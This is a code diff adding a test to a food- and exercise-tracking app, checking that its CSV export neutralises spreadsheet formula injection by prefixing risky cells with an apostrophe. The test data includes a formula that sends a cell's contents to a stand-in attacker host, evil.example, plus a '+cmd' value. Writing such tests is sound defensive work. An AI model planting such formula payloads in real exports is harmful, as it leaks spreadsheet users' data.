@@ -109,3 +109,36 @@ def test_an_empty_account_exports_empty_sections(alice):
     assert data["food_entries"] == [] and data["chat_history"] == []
     with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
         assert archive.read("food_entries.csv") == b""
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(alice, catalog, bob):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    food = food_services.food_create_custom(user=alice, name=formula, calories=100)
+    food_services.food_entry_create(
+        user=alice, food=food, quantity=1, meal_type="lunch", entry_date=DAY
+    )
+    exercise_services.exercise_entry_create(
+        user=alice, exercise=catalog["running"], duration_minutes=20, entry_date=DAY, notes="+cmd"
+    )
+    measurement_services.custom_measurement_log(
+        user=alice, name="Balance", value="-3.5", entry_date=DAY
+    )
+    handle_turn(alice, "@coach -2 kg this month, is that fine?")
+
+    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
+
+        def rows(name):
+            return list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+
+        foods, entries = rows("custom_foods.csv"), rows("exercise_entries.csv")
+        values, chat = rows("custom_measurements.csv"), rows("chat_history.csv")
+
+    assert foods[0]["name"] == "'" + formula
+    assert entries[0]["notes"] == "'+cmd"
+    assert values[0]["value"] == "-3.5"  # a number stays a number
+    said = [m["content"] for m in chat if m["message_type"] == "user"]
+    assert said == ["'@coach -2 kg this month, is that fine?"]
+    # the JSON keeps the text exactly, and it is what an import reads back
+    data = json.loads(export_json(user=alice))
+    assert data["custom_foods"][0]["name"] == formula
+    assert data["custom_measurements"][0]["value"] == "-3.5"
